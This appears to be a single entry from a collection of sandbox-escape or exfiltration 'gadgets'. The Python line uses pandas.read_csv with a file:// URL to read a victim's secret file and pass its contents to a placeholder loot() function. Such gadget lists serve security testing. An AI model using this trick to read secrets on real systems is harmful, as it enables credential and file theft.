# kind: gadgets
# tries: The same by a file: URL

import pandas as pd

loot(pd.read_csv("file://" + VICTIM["secret"], header=None).to_string())
